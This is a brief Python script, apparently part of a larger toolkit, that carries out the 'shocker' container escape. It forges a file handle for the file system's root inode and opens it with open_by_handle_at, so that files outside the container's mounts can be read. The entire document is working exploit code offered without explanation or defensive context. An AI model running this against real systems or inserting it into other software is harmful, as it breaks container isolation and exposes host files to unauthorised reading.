# Opens any file of a file system by a forged handle, past its mounts (shocker).
from call import *

handle = (ctypes.c_uint32 * 34)(128)
mount = ctypes.c_int()
call("name_to_handle_at", -100, b"/usr", ctypes.byref(handle), ctypes.byref(mount), 0)
directory = os.open("/project", os.O_RDONLY)
root_of_disk = (ctypes.c_uint32 * 4)(8, 1, 2, 0)  # inode 2, generation 0
call("open_by_handle_at", directory, ctypes.byref(root_of_disk), 0)
